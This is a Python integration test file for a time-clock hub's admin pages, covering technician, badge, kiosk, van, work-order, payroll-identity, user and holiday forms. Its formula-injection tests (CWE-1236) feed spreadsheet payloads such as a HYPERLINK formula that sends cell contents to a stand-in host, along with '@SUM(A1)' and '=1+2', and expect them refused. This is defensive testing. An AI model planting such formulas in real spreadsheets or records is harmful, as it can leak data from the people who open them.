"""Admin pages: plain validated forms, a message next to the field, nothing half-saved;
a badge enrolled straight from a kiosk's unknown read; work orders from CSV."""

from __future__ import annotations

import io
from datetime import datetime
from zoneinfo import ZoneInfo

from hub.store.engine import make_engine, session_factory
from hub.store.models import (
    Badge,
    BrokerCredential,
    Depot,
    Kiosk,
    LegRebuildRequest,
    PayrollIdentity,
    Technician,
    User,
    VehicleAssignment,
    WorkOrder,
    WorkOrderAssignment,
)
from tests.integration.web.company import stored

TECH = {"id": "T-300", "name": "Lee Park", "job_title": "Electrician", "payroll_id": "00300", "wage": "33.10",
        "cost_rate": "44", "billing_rate": "130", "overtime_policy": "california",
        "payroll_timezone": "America/Los_Angeles", "home_depot_id": "north", "tracks_time": "y", "active": "y"}



def test_only_admins_reach_admin_pages(client, auth):
    auth.login("sam")
    for url in ("/admin/", "/admin/technicians/", "/admin/users/", "/admin/job-titles"):
        assert client.get(url).status_code == 403, url
    auth.logout()
    auth.login("ada")
    for url in ("/admin/", "/admin/technicians/", "/admin/depots/", "/admin/kiosks/", "/admin/vehicles/",
                "/admin/work-orders/",
                "/admin/users/", "/admin/job-titles", "/admin/technicians/T-100"):
        assert client.get(url).status_code == 200, url
    assert client.get("/admin/nothing/").status_code == 404


def test_add_a_technician_with_wages_rates_and_policy(client, auth, seeded):
    auth.login("ada")
    assert client.post("/admin/technicians/", data=TECH).status_code == 302
    (tech,) = [t for t in stored(seeded[0], Technician) if t.id == "T-300"]
    assert (str(tech.wage), tech.overtime_policy, tech.payroll_timezone) == ("33.1000", "california", "America/Los_Angeles")
    assert client.post("/admin/technicians/T-300", data={**TECH, "wage": "35.00"}).status_code == 302
    assert [str(t.wage) for t in stored(seeded[0], Technician) if t.id == "T-300"] == ["35.0000"]


def test_a_bad_field_is_named_and_nothing_is_saved(client, auth, seeded):
    auth.login("ada")
    for field, value in (("wage", "-3"), ("payroll_timezone", "Mars/Olympus"), ("name", ""), ("id", "T-100")):
        response = client.post("/admin/technicians/", data={**TECH, field: value})
        assert response.status_code == 422, field
        assert f'data-field="{field}"'.encode() in response.data, field
    assert "T-300" not in {t.id for t in stored(seeded[0], Technician)}
    response = client.post("/admin/depots/", data={"id": "west", "name": "West", "timezone": "America/Chicago",
                                                   "lat": "95", "lon": "-87", "geofence_radius_m": "150"})
    assert response.status_code == 422 and b'data-field="lat"' in response.data
    assert "west" not in {d.id for d in stored(seeded[0], Depot)}


def test_enroll_a_badge_from_the_kiosks_unknown_read(client, auth, seeded):
    auth.login("ada")
    page = client.get("/badges").data.decode()
    assert 'data-badge="0BADCAFE"' in page
    assert client.post("/badges", data={"badge_id": "0BADCAFE", "technician_id": "T-101"}).status_code == 302
    (badge,) = stored(seeded[0], Badge)
    assert (badge.badge_id, badge.technician_id, badge.family, badge.raw) == ("0BADCAFE", "T-101", "mfrc522", "0badcafe")
    assert 'data-badge="0BADCAFE"' not in client.get("/badges").data.decode()
    again = client.post("/badges", data={"badge_id": "0BADCAFE", "technician_id": "T-100"})
    assert again.status_code == 422


def test_a_supervisor_enrolls_badges_for_the_technicians_and_kiosks_of_their_depot(client, auth, seeded):
    """As at any time clock, the supervisor at the door enrolls a new card; only their
    depot's kiosks' reads, for their depot's technicians (README: Badges)."""
    auth.login("sue")  # south: the read was at the north door
    page = client.get("/badges").data.decode()
    assert 'data-badge="0BADCAFE"' not in page and "T-100" not in page
    refused = client.post("/badges", data={"badge_id": "0BADCAFE", "technician_id": "T-200"})
    assert refused.status_code == 422 and b"no kiosk of your depots has read badge 0BADCAFE" in refused.data
    auth.logout()
    auth.login("sam")  # north
    page = client.get("/badges").data.decode()
    assert 'data-badge="0BADCAFE"' in page and 'value="T-101"' in page and 'value="T-200"' not in page
    refused = client.post("/badges", data={"badge_id": "0BADCAFE", "technician_id": "T-200"})
    assert refused.status_code == 422 and b"no technician T-200 in your depots" in refused.data
    assert client.post("/badges", data={"badge_id": "0BADCAFE", "technician_id": "T-101"}).status_code == 302
    (badge,) = stored(seeded[0], Badge)
    assert (badge.technician_id, badge.active_to) == ("T-101", None)
    auth.logout()
    auth.login("sue")
    assert client.post("/badges", data={"retire": str(badge.id)}).status_code == 422  # not her technician's
    auth.logout()
    auth.login("sam")
    assert client.post("/badges", data={"retire": str(badge.id)}).status_code == 302
    assert stored(seeded[0], Badge)[0].active_to is not None


def test_add_a_kiosk_and_move_it_with_its_broker_account(client, auth, seeded):
    """A kiosk moved to another depot reads that depot's roster from the broker's next
    configuration: its account's depot follows its record."""
    auth.login("ada")
    kiosk = {"id": "kiosk-north-2", "name": "Yard gate", "depot_id": "north"}
    assert client.post("/admin/kiosks/", data=kiosk).status_code == 302
    assert ("kiosk-north-2", "Yard gate", "north") in {(k.id, k.name, k.depot_id) for k in stored(seeded[0], Kiosk)}
    engine = make_engine(seeded[0])
    with session_factory(engine).begin() as session:  # as `depotclock hub provision kiosk` makes it
        now = datetime.now(ZoneInfo("UTC"))
        session.add(BrokerCredential(username="kiosk-north-2", role="kiosk", depot="north", password_hash="$7$x",
                                     created_at=now, rotated_at=now))
    engine.dispose()
    assert client.post("/admin/kiosks/kiosk-north-2", data={**kiosk, "depot_id": "south"}).status_code == 302
    (account,) = [a for a in stored(seeded[0], BrokerCredential) if a.username == "kiosk-north-2"]
    assert account.depot == "south"
    response = client.post("/admin/kiosks/", data={**kiosk, "depot_id": "nowhere"})
    assert response.status_code == 422 and b'data-field="depot_id"' in response.data


def test_assign_a_van_to_a_driver(client, auth, seeded):
    auth.login("ada")
    assert client.post("/admin/vehicles/assign", data={"vehicle_id": "van-12", "technician_id": "T-101"}).status_code == 302
    current = [(a.technician_id, a.ends_at is None) for a in stored(seeded[0], VehicleAssignment)]
    assert sorted(current) == [("T-100", False), ("T-101", True)]


def test_assign_a_van_after_the_fact_asks_the_ingest_to_rebuild_its_legs(client, auth, seeded):
    auth.login("ada")
    answer = client.post("/admin/vehicles/assign",
                         data={"vehicle_id": "van-12", "technician_id": "T-101", "since": "2026-03-04T06:30"})
    assert answer.status_code == 302
    since = datetime(2026, 3, 4, 6, 30, tzinfo=ZoneInfo("America/Chicago"))
    assert [(a.technician_id, a.starts_at, a.ends_at) for a in stored(seeded[0], VehicleAssignment)
            if a.technician_id == "T-101"] == [("T-101", since, None)]
    assert [(r.vehicle_id, r.since, r.until, r.reason) for r in stored(seeded[0], LegRebuildRequest)] == [
        ("van-12", since, None, "assignment")]
    later = client.post("/admin/vehicles/assign", data={"vehicle_id": "van-12", "technician_id": "T-100",
                                                        "since": "2026-03-04T05:00"}, follow_redirects=True)
    assert "pick a later time" in later.data.decode()


def test_work_orders_from_csv_all_or_nothing(client, auth, seeded):
    auth.login("ada")
    good = ("id,customer,title,site_address,lat,lon,radius_m,billable,depot_id,assigned\n"
            "WO-20,Acme,Boiler,1 Main St,41.9,-87.6,80,yes,north,T-100;T-101\n"
            "WO-7,Lakeview Dental,Rooftop unit (revisit),,,,,no,north,\n")
    response = client.post("/admin/work-orders/import", data={"file": (io.BytesIO(good.encode()), "wo.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    orders = {w.id: w for w in stored(seeded[0], WorkOrder)}
    assert orders["WO-20"].radius_m == 80 and orders["WO-7"].title == "Rooftop unit (revisit)" and not orders["WO-7"].billable
    assert {(a.work_order_id, a.technician_id) for a in stored(seeded[0], WorkOrderAssignment)} >= {
        ("WO-20", "T-100"), ("WO-20", "T-101")}
    bad = "id,customer,title,depot_id,lat\nWO-30,A,B,north,1\nWO-31,A,B,north,abc\n"
    response = client.post("/admin/work-orders/import", data={"file": (io.BytesIO(bad.encode()), "wo.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 422 and b"line 3: lat" in response.data and b'data-field="file"' in response.data
    assert "WO-30" not in {w.id for w in stored(seeded[0], WorkOrder)}


def test_a_technicians_names_and_payroll_identities_are_edited_on_their_page(client, auth, seeded):
    """Issue 17 #1: given and family names kept apart; an identity per payroll system."""
    auth.login("ada")
    data = {**TECH, "name": "José Núñez Ruiz", "given_name": "José", "family_name": "Núñez Ruiz", "adp": "300",
            "paychex": "JNR300", "gusto": "a1b2c3", "iif": "Núñez Ruiz, José"}
    assert client.post("/admin/technicians/", data=data).status_code == 302
    (tech,) = [t for t in stored(seeded[0], Technician) if t.id == "T-300"]
    assert (tech.given_name, tech.family_name) == ("José", "Núñez Ruiz")
    identities = {i.provider: (i.employee_id, i.employee_name) for i in stored(seeded[0], PayrollIdentity)
                  if i.technician_id == "T-300"}
    assert identities == {"adp": ("000300", None), "paychex": ("JNR300", None), "gusto": ("a1b2c3", None),
                          "iif": (None, "Núñez Ruiz, José")}
    page = client.get("/admin/technicians/T-300").get_data(as_text=True)
    assert 'value="000300"' in page and 'value="Núñez Ruiz, José"' in page
    assert client.post("/admin/technicians/T-300", data={**data, "gusto": ""}).status_code == 302
    assert "gusto" not in {i.provider for i in stored(seeded[0], PayrollIdentity) if i.technician_id == "T-300"}


def test_bad_identities_and_formula_names_are_refused_at_entry_next_to_their_field(client, auth, seeded):
    """Issue 17 #4, #5, #7 (CWE-1236): nothing saved, the field named."""
    auth.login("ada")
    for field, value, says in (
        ("adp", "T-300", "not 1 to 6 digits"), ("paychex", "JNR-300", "letters and digits"),
        ("iif", "Nguyễn, Văn", "Windows-1252"), ("gusto", "g100", "is T-100"),
        ("name", '=HYPERLINK("http://x"&A1,"Click")', "runs as a formula"),
        ("family_name", "@Park", "runs as a formula"), ("given_name", "+Lee", "runs as a formula"),
    ):
        response = client.post("/admin/technicians/", data={**TECH, field: value})
        page = response.get_data(as_text=True)
        assert response.status_code == 422 and f'data-field="{field}"' in page and says in page, field
    assert "T-300" not in {t.id for t in stored(seeded[0], Technician)}
    work_order = {"id": "WO-40", "customer": "=1+2", "title": "Boiler", "radius_m": "100", "depot_id": "north"}
    response = client.post("/admin/work-orders/", data=work_order)
    assert response.status_code == 422 and b'data-field="customer"' in response.data
    response = client.post("/admin/work-orders/", data={**work_order, "customer": "Acme", "quickbooks_job": "-Acme:1"})
    assert response.status_code == 422 and b'data-field="quickbooks_job"' in response.data
    assert client.post("/admin/work-orders/", data={**work_order, "customer": "Acme, Inc.",
                                                     "quickbooks_job": "Acme, Inc.:WO-40"}).status_code == 302
    assert {w.id: w.quickbooks_job for w in stored(seeded[0], WorkOrder)}["WO-40"] == "Acme, Inc.:WO-40"


def test_work_order_csv_refuses_formula_customers_naming_the_line(client, auth, seeded):
    auth.login("ada")
    bad = "id,customer,title,depot_id\nWO-30,Acme,B,north\nWO-31,@SUM(A1),B,north\n"
    response = client.post("/admin/work-orders/import", data={"file": (io.BytesIO(bad.encode()), "wo.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 422 and b"line 3: customer:" in response.data
    assert "WO-30" not in {w.id for w in stored(seeded[0], WorkOrder)}


def test_payroll_identities_from_csv_all_or_nothing(client, auth, seeded):
    auth.login("ada")
    good = ("\ufefftechnician_id,provider,employee_id,employee_name\n"
            "T-100,adp,100,\nT-101,adp,000101,\nT-100,iif,,\"Lopez, Maria\"\nT-200,gusto,,\n")
    response = client.post("/admin/technicians/identities/import",
                           data={"file": (io.BytesIO(good.encode()), "ids.csv")}, content_type="multipart/form-data")
    assert response.status_code == 302
    found = {(i.technician_id, i.provider): (i.employee_id, i.employee_name) for i in stored(seeded[0], PayrollIdentity)}
    assert found[("T-100", "adp")] == ("000100", None) and found[("T-101", "adp")] == ("000101", None)
    assert found[("T-100", "iif")] == (None, "Lopez, Maria") and ("T-200", "gusto") not in found
    for bad, says in (
        ("technician_id,provider,employee_id,employee_name\nT-100,paychex,P100,\nT-101,adp,=1+2,\n",
         "line 3: employee_id: ADP file number"),
        ("technician_id,provider,employee_id,employee_name\nT-999,adp,1,\n", "line 2: no technician"),
        ("technician_id,provider,employee_id,employee_name\nT-100,sage,1,\n", "line 2: provider: choose one of"),
        ("technician_id,provider,employee_id,employee_name\nT-101,adp,100,\n", "line 2: employee_id: ADP file number 000100 is T-100"),
        ("technician_id,provider,employee_id,employee_name\nT-101,iif,,@Carter\n", "line 2: employee_name"),
    ):
        response = client.post("/admin/technicians/identities/import",
                               data={"file": (io.BytesIO(bad.encode()), "ids.csv")}, content_type="multipart/form-data")
        page = response.get_data(as_text=True)
        assert response.status_code == 422 and says in page and 'data-field="file"' in page, (says, page[-800:])
    assert ("T-100", "paychex") not in {(i.technician_id, i.provider) for i in stored(seeded[0], PayrollIdentity)}


def test_job_titles_that_track_time(client, auth, seeded):
    auth.login("ada")
    client.post("/admin/job-titles", data={"job_title": "HVAC technician", "tracks_time": "no"})
    assert not any(t.tracks_time for t in stored(seeded[0], Technician))


def test_users_and_roles(client, auth, seeded):
    auth.login("ada")
    response = client.post("/admin/users/", data={"username": "kim", "password": "short", "role": "supervisor",
                                                  "depots": ["north"]})
    assert response.status_code == 422 and b'data-field="password"' in response.data
    response = client.post("/admin/users/", data={"username": "kim", "password": "long enough pass", "role": "payroll"})
    assert response.status_code == 422 and b'data-field="depots"' in response.data
    assert client.post("/admin/users/", data={"username": "kim", "password": "long enough pass", "role": "supervisor",
                                              "depots": ["north", "south"]}).status_code == 302
    assert "kim" in {u.username for u in stored(seeded[0], User)}


def test_company_holidays_are_added_and_removed_and_public_ones_shown(seeded):
    from hub.settings import HolidaySettings, HubSettings, PayrollSettings
    from hub.store.models import CompanyHoliday
    from hub.web import create_app, db
    from tests.integration.web.company import NOW
    from tests.integration.web.conftest import AuthActions

    settings = HubSettings(database_url=seeded[0], mqtt_url="mqtt://hub:x@127.0.0.1:1883",
                           timezone="America/Chicago",
                           payroll=PayrollSettings(holidays=HolidaySettings(country="US", subdivision="IL")))
    app = create_app(settings, {"TESTING": True, "SECRET_KEY": "test", "WTF_CSRF_ENABLED": False,
                                "CLOCK": lambda: NOW})
    client = app.test_client()
    AuthActions(client).login("ada")
    assert b"Holidays" in client.get("/admin/").data
    page = client.get("/admin/holidays")
    assert page.status_code == 200 and b"Independence Day" in page.data and b"US-IL" in page.data
    response = client.post("/admin/holidays", data={"day": "2026-11-27", "name": "Day after Thanksgiving"})
    assert response.status_code == 302
    (row,) = stored(seeded[0], CompanyHoliday)
    assert (row.day.isoformat(), row.name) == ("2026-11-27", "Day after Thanksgiving")
    for bad, field in (({"day": "27/11/2026", "name": "x"}, "day"), ({"day": "2026-11-27", "name": "again"}, "day"),
                       ({"day": "2026-11-28", "name": " "}, "name"), ({"day": "2026-11-28", "name": "y" * 500}, "name")):
        response = client.post("/admin/holidays", data=bad)
        assert response.status_code == 422 and f'data-field="{field}"'.encode() in response.data, bad
    assert client.post("/admin/holidays", data={"remove": "x"}).status_code == 422
    assert client.post("/admin/holidays", data={"remove": str(row.id)}).status_code == 302
    assert stored(seeded[0], CompanyHoliday) == []
    auth = AuthActions(client)
    auth.logout()
    auth.login("sam")
    assert client.get("/admin/holidays").status_code == 403
    db.dispose(app)
